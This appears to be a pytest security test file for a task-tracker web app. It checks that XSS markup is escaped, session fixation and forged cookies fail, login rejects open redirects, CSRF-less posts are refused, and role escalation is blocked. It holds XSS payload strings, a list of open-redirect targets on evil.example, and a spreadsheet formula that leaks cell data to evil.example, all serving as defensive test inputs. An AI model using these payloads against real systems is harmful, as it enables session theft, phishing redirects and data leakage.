"""Intrusion attempts that must fail: markup in titles and names (XSS), session fixation, open
redirects on login, posts without a CSRF token, and role escalation by a worker or manager."""

import csv
import io
import uuid
from urllib.parse import urlsplit

import pytest
import sqlalchemy as sa

from ates.database import metadata
from domains.auth.tables import accounts, login_failures
from domains.tracker import commands as tracker
from domains.tracker.tables import tasks
from tests.conftest import fetch_csrf_token, log_in
from web.accounting_reports import TITLE_ROWS

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(2)>"
QUOTE = '" onmouseover="alert(3)'
NAME = "<b onmouseover=alert(4)>Kesha</b>"


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def assert_shown_as_text(page: str, *texts: str, where: str = "") -> None:
    for text in texts:
        assert text not in page, (where, text)
        assert escaped(text).replace('"', "&#34;") in page, (where, text)


def snapshot(runtime) -> dict:
    with runtime.db.transaction() as session:
        return {
            table.fullname: sorted(map(repr, session.execute(sa.select(table)).all()))
            for table in metadata.sorted_tables
            if table is not login_failures
        }


def logged_in(app, account):
    client = app.test_client()
    assert log_in(client, account.login, account.password).status_code == 302
    return client


def post(client, url, **data):
    return client.post(url, data=data | {"csrf_token": fetch_csrf_token(client)})


# --- XSS -----------------------------------------------------------------------------------


def test_markup_in_titles_descriptions_and_names_is_shown_as_text_everywhere(
    app, runtime, make_account, deliver, mailbox
):
    admin = make_account("admin")
    kesha = make_account("worker", full_name=NAME)
    parrot = logged_in(app, kesha)
    title = f"{SCRIPT} {QUOTE}"
    response = post(parrot, "/tasks/", title=title, jira_id="UBERPOP-1", description=IMAGE)
    assert response.status_code == 302
    mine = parrot.get("/tasks/").get_data(as_text=True)
    assert_shown_as_text(mine, SCRIPT, IMAGE, NAME, where="my tasks")
    assert QUOTE not in mine
    # Both titles carry markup: the most expensive task depends on the prices drawn.
    created = parrot.post(
        "/tasks/",
        data={"title": f"{SCRIPT} again", "csrf_token": fetch_csrf_token(parrot)},
        headers={"HX-Request": "true"},
    )
    assert_shown_as_text(created.get_data(as_text=True), NAME, where="the htmx new task row")
    deliver()
    with runtime.db.transaction() as session:
        for task in session.scalars(sa.select(tasks.c.public_id)).all():
            tracker.complete_task(session, task=str(task), by=kesha.public_id)
    deliver()

    boss = logged_in(app, admin)
    pages = {
        "all tasks": boss.get("/tasks/all"),
        "audit log": parrot.get("/accounting/"),
        "company": boss.get("/accounting/company"),
        "analytics": boss.get("/analytics/"),
        "accounts": boss.get("/accounts"),
        "account": boss.get(f"/accounts/{kesha.public_id}"),
        "reflected in a 400": boss.get(f"/tasks/all?status={SCRIPT}"),
    }
    for where, response in pages.items():
        assert response.status_code in (200, 400), where
    assert_shown_as_text(pages["all tasks"].get_data(as_text=True), SCRIPT, NAME, where="all")
    assert_shown_as_text(pages["audit log"].get_data(as_text=True), SCRIPT, where="audit log")
    assert_shown_as_text(pages["company"].get_data(as_text=True), NAME, where="company")
    assert_shown_as_text(pages["analytics"].get_data(as_text=True), SCRIPT, NAME, where="analytics")
    assert_shown_as_text(pages["accounts"].get_data(as_text=True), NAME, where="accounts")
    assert_shown_as_text(pages["account"].get_data(as_text=True), NAME, where="account")
    assert_shown_as_text(pages["reflected in a 400"].get_data(as_text=True), SCRIPT, where="400")
    for page in pages.values():
        assert QUOTE not in page.get_data(as_text=True)

    # Reports are data: a download, never a page a browser would render.
    for url in ("/accounting/reports/ledger.csv", "/accounting/reports/ledger.xlsx"):
        report = boss.get(url)
        assert report.status_code == 200
        assert "html" not in report.content_type
        assert report.headers["Content-Disposition"].startswith("attachment;")
    assert SCRIPT in boss.get("/accounting/reports/ledger.csv").get_data(as_text=True)

    # The payout e-mail is plain text: the name in it is words, not markup.
    assert post(boss, "/accounting/close", early="yes").status_code == 303
    deliver()
    [message] = mailbox.received
    assert message.get_content_type() == "text/plain" and not message.is_multipart()
    assert f"Hello {NAME}," in message.get_content()


# --- Sessions and redirects ------------------------------------------------------------------


def test_a_session_planted_before_login_is_not_the_one_logged_in(app, make_account):
    kesha = make_account("worker")
    attacker = app.test_client()
    attacker.get("/login")  # an anonymous session with a CSRF token in it
    planted = attacker.get_cookie("session").value
    victim = app.test_client()
    victim.set_cookie("session", planted)
    assert log_in(victim, kesha.login, kesha.password).status_code == 302
    assert victim.get_cookie("session").value != planted
    assert victim.get("/").status_code == 200
    # The attacker's copy of the planted cookie is still nobody's session.
    assert attacker.get("/").status_code == 302


def test_a_forged_session_cookie_is_not_honoured(app, make_account):
    admin = make_account("admin")
    forger = app.test_client()
    forger.set_cookie("session", f'{{"_user_id": "{admin.public_id}", "_fresh": true}}')
    assert forger.get("/accounts").status_code == 302
    stranger = app.test_client()
    with stranger.session_transaction() as session:
        session["_user_id"] = admin.public_id
    cookie = stranger.get_cookie("session").value
    tampered = cookie[:-2] + ("AA" if not cookie.endswith("AA") else "BB")
    forger.set_cookie("session", tampered)
    assert forger.get("/accounts").status_code == 302


EVIL_TARGETS = [
    "//evil.example",
    "//evil.example/tasks/",
    "https://evil.example",
    "http:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/%5Cevil.example",
    " //evil.example",
    "/\t/evil.example",
    "javascript:alert(1)",
    "evil.example",
]


@pytest.mark.parametrize("target", EVIL_TARGETS)
def test_login_never_redirects_to_another_site(client, make_account, target):
    kesha = make_account("worker")
    token = fetch_csrf_token(client)
    response = client.post(
        "/login",
        data={
            "login": kesha.login,
            "password": kesha.password,
            "next": target,
            "csrf_token": token,
        },
    )
    assert response.status_code == 302
    assert_same_site(response.headers["Location"])
    # Already logged in, the GET form redirects too: the same rule applies.
    assert_same_site(client.get("/login", query_string={"next": target}).headers["Location"])


def assert_same_site(location: str) -> None:
    """A path on this site, as a browser reads it (it treats a backslash like a slash)."""
    assert location.startswith("/") and location[1:2] not in ("/", "\\"), location
    assert not urlsplit(location).netloc and not urlsplit(location).scheme, location
    assert all(ord(char) > 32 for char in location), location


def test_login_goes_on_to_a_same_site_next_page(client, make_account):
    kesha = make_account("worker")
    token = fetch_csrf_token(client)
    data = {"login": kesha.login, "password": kesha.password, "next": "/tasks/?x=1"}
    response = client.post("/login", data=data | {"csrf_token": token})
    assert response.headers["Location"] == "/tasks/?x=1"


# --- CSRF on every state-changing route --------------------------------------------------------


@pytest.fixture
def company(runtime, make_account):
    admin = make_account("admin")
    worker = make_account("worker")
    with runtime.db.transaction() as session:
        task = tracker.create_task(session, title="Open", created_by=admin.public_id)
    return admin, worker, task["public_id"]


def _post_routes(app):
    for rule in app.url_map.iter_rules():
        if rule.endpoint != "static" and "POST" in rule.methods:
            yield rule


def _arguments(rule, admin, worker, task) -> dict:
    values = {"public_id": worker.public_id, "task": task, "dead_letter_id": 1}
    values["consumer"] = "accounting"
    return {name: values[name] for name in rule.arguments}


def test_every_post_route_without_a_csrf_token_is_refused_and_changes_nothing(
    app, runtime, company
):
    admin, worker, task = company
    forms = {
        "auth.new_account": {
            "login": "csrf",
            "full_name": "C",
            "email": "c@u.example",
            "role": "admin",
            "password": "long-enough-password",
        },
        "auth.account": {"full_name": "Changed", "email": "changed@u.example"},
        "auth.change_role": {"role": "admin"},
        "auth.login": {"login": admin.login, "password": admin.password},
        "tracker.create": {"title": "Planted"},
    }
    checked = []
    for rule in _post_routes(app):
        account = worker if rule.endpoint == "tracker.complete" else admin
        client = logged_in(app, account) if rule.endpoint != "auth.login" else app.test_client()
        url = rule.build(_arguments(rule, admin, worker, task))[1]
        before = snapshot(runtime)
        for headers in ({}, {"HX-Request": "true"}, {"X-CSRFToken": "forged"}):
            data = forms.get(rule.endpoint, {})
            response = client.post(url, data=data, headers=headers)
            assert response.status_code == 400, (rule.rule, headers, response.status_code)
            assert "CSRF" in response.get_data(as_text=True)
        assert snapshot(runtime) == before, rule.rule
        if rule.endpoint != "auth.login":
            assert client.get("/").status_code == 200  # still logged in: logout refused too
        checked.append(rule.endpoint)
    assert {
        "tracker.create",
        "tracker.complete",
        "tracker.reassign",
        "accounting.close_day",
        "auth.change_role",
        "auth.logout",
        "auth.login",
    } <= set(checked)


# --- Role escalation ----------------------------------------------------------------------------


def _escalations(admin, victim, me):
    return [
        (
            "/accounts/new",
            {
                "login": "sneaky",
                "full_name": "S",
                "email": "s@u.example",
                "role": "admin",
                "password": "long-enough-password",
            },
        ),
        (f"/accounts/{me}/role", {"role": "admin"}),
        (f"/accounts/{victim}/role", {"role": "admin"}),
        (f"/accounts/{me}", {"full_name": "Me", "email": "me@u.example", "role": "admin"}),
        (f"/accounts/{admin}/deactivate", {}),
        (f"/accounts/{victim}/reactivate", {}),
        ("/tasks/reassign", {}),
        ("/accounting/close", {}),
        ("/operations/dead-letters/1/replay", {}),
        ("/operations/consumers/accounting/replay", {}),
        ("/sender/failures/1/replay", {}),
    ]


@pytest.mark.parametrize("role", ["worker", "accountant", "manager"])
def test_posts_above_ones_role_are_forbidden_and_change_nothing(
    app, runtime, company, make_account, role
):
    admin, victim, _task = company
    me = make_account(role)
    client = logged_in(app, me)
    before = snapshot(runtime)
    allowed = {"manager": {"/tasks/reassign"}, "accountant": {"/accounting/close"}}.get(role, set())
    for url, data in _escalations(admin.public_id, victim.public_id, me.public_id):
        if url in allowed:
            continue
        response = post(client, url, **data)
        assert response.status_code == 403, (role, url, response.status_code)
        assert "Not yours to open" in response.get_data(as_text=True)
    assert snapshot(runtime) == before
    with runtime.db.transaction() as session:
        assert (
            session.scalar(sa.select(accounts.c.role).where(accounts.c.public_id == me.public_id))
            == role
        )


def test_the_account_form_ignores_a_smuggled_role(app, runtime, company):
    admin, worker, _task = company
    boss = logged_in(app, admin)
    response = post(
        boss,
        f"/accounts/{worker.public_id}",
        full_name="Still Worker",
        email="w@u.example",
        role="admin",
        active="0",
    )
    assert response.status_code == 302
    with runtime.db.transaction() as session:
        row = session.execute(
            sa.select(accounts.c.role, accounts.c.active, accounts.c.full_name).where(
                accounts.c.public_id == worker.public_id
            )
        ).one()
    assert tuple(row) == ("worker", True, "Still Worker")


def test_an_admin_cannot_demote_or_deactivate_themselves(app, runtime, company):
    admin, _worker, _task = company
    boss = logged_in(app, admin)
    before = snapshot(runtime)
    assert post(boss, f"/accounts/{admin.public_id}/role", role="worker").status_code == 422
    assert post(boss, f"/accounts/{admin.public_id}/deactivate").status_code == 422
    assert snapshot(runtime) == before


def test_an_unknown_account_id_in_the_session_is_nobody(app, runtime):
    client = app.test_client()
    with client.session_transaction() as session:
        session["_user_id"] = str(uuid.uuid4())
        session["_fresh"] = True
    assert client.get("/").status_code == 302


# --- Reports opened in a spreadsheet -----------------------------------------------------------


def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv_report(
    app, runtime, make_account, deliver
):
    admin = make_account("admin")
    make_account("worker", full_name="@SUM(1+1)")
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay me")'
    with runtime.db.transaction() as session:
        tracker.create_task(session, title=formula, created_by=admin.public_id)
    deliver()
    report = logged_in(app, admin).get("/accounting/reports/ledger.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(report.lstrip("\ufeff"))))
    header, [fee], _totals = rows[TITLE_ROWS], rows[TITLE_ROWS + 1 : -1], rows[-1]
    assert fee[header.index("Description")].endswith(formula)  # after "Assign fee: ": inert
    assert fee[header.index("Parrot")] == "'@SUM(1+1)"
    assert fee[header.index("Amount ($)")].startswith("-")  # numbers stay numbers
    assert float(fee[header.index("Amount ($)")]) < 0
